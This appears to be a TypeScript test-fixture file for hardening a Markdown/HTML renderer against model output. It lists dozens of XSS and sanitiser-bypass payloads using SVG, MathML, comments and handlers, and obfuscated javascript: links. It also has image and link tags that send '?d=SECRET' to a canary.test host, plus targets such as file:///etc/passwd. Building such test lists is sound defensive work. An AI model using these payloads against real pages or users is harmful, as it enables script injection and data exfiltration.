/**
 * What a model could say to make a page load, run, overwrite or open something. Each piece counts its
 * success in `pwned`, or asks for something at a host below `.test`.
 */

/** A name of a case, and what the model says. */
export type Piece = readonly [name: string, text: string]

const bad = 'pwned=1'
const away = 'http://canary.test/?d=SECRET'

/** Whatever a browser loads by itself, in Markdown and in HTML. */
export const loads: readonly Piece[] = [
  ['an image', `![x](${away})`],
  ['an image by reference', `![x][ref]\n\n[ref]: ${away}`],
  ['an image with a title', `![x](<${away}> "t")`],
  ['an image inside a link', `[![x](${away})](${away})`],
  ['an image without a scheme', '![x](//canary.test/a)'],
  ['an image tag', `<img src="${away}">`],
  ['a picture', `<picture><source srcset="${away}"><img src="${away}"></picture>`],
  ['a set of sources', `<img srcset="${away} 1x, ${away}2 2x">`],
  ['a poster', `<video poster="${away}" src="${away}" autoplay></video>`],
  ['sound', `<audio src="${away}" autoplay></audio>`],
  ['a style with an address', `<div style="background:url(${away})">x</div>`],
  ['a sheet', `<style>@import url(${away});body{background:url(${away})}</style>`],
  ['a linked sheet', `<link rel="stylesheet" href="${away}">`],
  ['prefetching', `<link rel="prefetch" href="${away}"><link rel="preload" as="image" href="${away}">`],
  [
    'looking a name up',
    '<link rel="dns-prefetch" href="//dns.canary.test"><link rel="preconnect" href="http://pre.canary.test">',
  ],
  ['a frame', `<iframe src="${away}"></iframe><object data="${away}"></object><embed src="${away}">`],
  ['going elsewhere', `<meta http-equiv="refresh" content="0;url=${away}">`],
  ['another base', `<base href="http://canary.test/">`],
  ['an icon', `<link rel="icon" href="${away}">`],
  ['an image in SVG', `<svg><image href="${away}"/><use href="${away}#a"/></svg>`],
  ['a form that sends', `<form action="${away}"><button autofocus>x</button></form>`],
  ['a module', `<script type="module" src="${away}"></script><link rel="modulepreload" href="${away}">`],
  [
    'a diagram with an image',
    `\`\`\`mermaid\n%%{init:{"securityLevel":"loose"}}%%\ngraph TD\nA["<img src='${away}'>"]\nclick A href "javascript:${bad}"\n\`\`\``,
  ],
  ['a formula', `$$\\href{${away}}{x}\\includegraphics{${away}}$$`],
]

/** Markup that some sanitiser, parser or browser has once taken for something else than it was. */
export const runs: readonly Piece[] = [
  ['a script', `<script>${bad}</script>`],
  ['a handler', `<img src=x onerror=${bad}>`],
  ['a handler without space', `<img/src=x/onerror=${bad}>`],
  ['a handler on a tag of no name', `<x onfocus=${bad} tabindex=1 autofocus>`],
  [
    'a handler that waits for an animation',
    `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="${bad}">`,
  ],
  ['a handler of details', `<details open ontoggle=${bad}><summary>x</summary></details>`],
  ['SVG with a handler', `<svg onload=${bad}><g onload=${bad}></svg>`],
  ['SVG that animates a link', `<svg><a><animate attributeName=href values=javascript:${bad} /><text>x</text></a></svg>`],
  ['SVG that sets a handler', `<svg><set attributeName=onload to=${bad}></svg>`],
  ['a style inside SVG', `<svg><style><img src=x onerror=${bad}></style></svg>`],
  ['a title inside SVG', `<svg></p><title><a id="</title><img src=x onerror=${bad}>"></title></svg>`],
  ['a foreign object', `<svg><foreignObject><iframe srcdoc="<script>parent.${bad}</script>"></iframe></foreignObject></svg>`],
  [
    'a style inside MathML',
    `<math><mtext><table><mglyph><style><img src=x onerror=${bad}></style></mglyph></table></mtext></math>`,
  ],
  ['a comment inside MathML', `<math><mi><!--</mi><img title="--><img src=x onerror=${bad}>"></math>`],
  ['an annotation', `<math><annotation-xml encoding="text/html"><img src=x onerror=${bad}></annotation-xml></math>`],
  ['a form in a form', `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${bad}>`],
  ['a tag without scripts', `<noscript><p title="</noscript><img src=x onerror=${bad}>"></noscript>`],
  ['a template', `<template><img src=x onerror=${bad}></template>`],
  ['text that is not parsed', `<xmp><p title="</xmp><img src=x onerror=${bad}>"></xmp>`],
  ['a text area', `<textarea><p title="</textarea><img src=x onerror=${bad}>"></textarea>`],
  ['a selection', `<select><iframe></select><img src=x onerror=${bad}>`],
  ['a comment that ends early', `<!--><img src=x onerror=${bad}>-->`],
  ['a comment that ends late', `<!-- --!><img src=x onerror=${bad}> -->`],
  ['an instruction', `<?xml ><img src=x onerror=${bad}> ?>`],
  ['a declaration', `<!DOCTYPE x [<!ENTITY a "<img src=x onerror=${bad}>">]>&a;`],
  ['character data', `<![CDATA[<img src=x onerror=${bad}>]]>`],
  ['a tag in a code span', `\`<img src=x onerror=${bad}>\``],
  ['a tag in a fence', `~~~html\n</code></pre><img src=x onerror=${bad}>\n~~~`],
  ['the language of a fence', `\`\`\`"><img/src=x/onerror=${bad}>\nx\n\`\`\``],
  ['a cell', `|a|\n|-|\n|<img src=x onerror=${bad}>|`],
  ['a title of a link', `[x](http://ok.test "\\"onmouseover=${bad} x=\\"")`],
  ['a description of an image', `![<img src=x onerror=${bad}>](x)`],
  ['references of characters', `&lt;img src=x onerror=${bad}&gt; &#60;script&#62;${bad}&#60;/script&#62;`],
  ['a tag cut by a block', `<div title="\n\n"><img src=x onerror=${bad}>">`],
  [
    'an id and names of the page',
    `<form id=config><input name=cookie></form><a id=__webpack_nonce__ href=x>x</a><img name=body><a id=app>x</a>`,
  ],
  ['a part of the page', `<div id="app" slot="x" is="x-y"><bridlewise-x></bridlewise-x></div>`],
]

/** Targets that must not be followed. */
export const targets: readonly string[] = [
  `javascript:${bad}`,
  `JaVaScRiPt:${bad}`,
  `java&#x09;script:${bad}`,
  `&#x6a;avascript:${bad}`,
  `&#106avascript:${bad}`,
  `\u0001javascript:${bad}`,
  ` javascript:${bad}`,
  `javascript&colon;${bad}`,
  `view-source:javascript:${bad}`,
  `data:text/html,<script>${bad}</script>`,
  'data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+',
  `vbscript:${bad}`,
  'blob:http://127.0.0.1/x',
  'file:///etc/passwd',
  'vscode://file/etc/passwd',
  'ms-settings:x',
  'intent://x#Intent;end',
  'mailto:a@b.test',
  'ftp://canary.test/x',
  'http://user:secret@canary.test/',
  '//canary.test/x',
  '/api/account/logout',
  '#/settings',
  'http:canary.test',
  'http:\\\\canary.test',
]
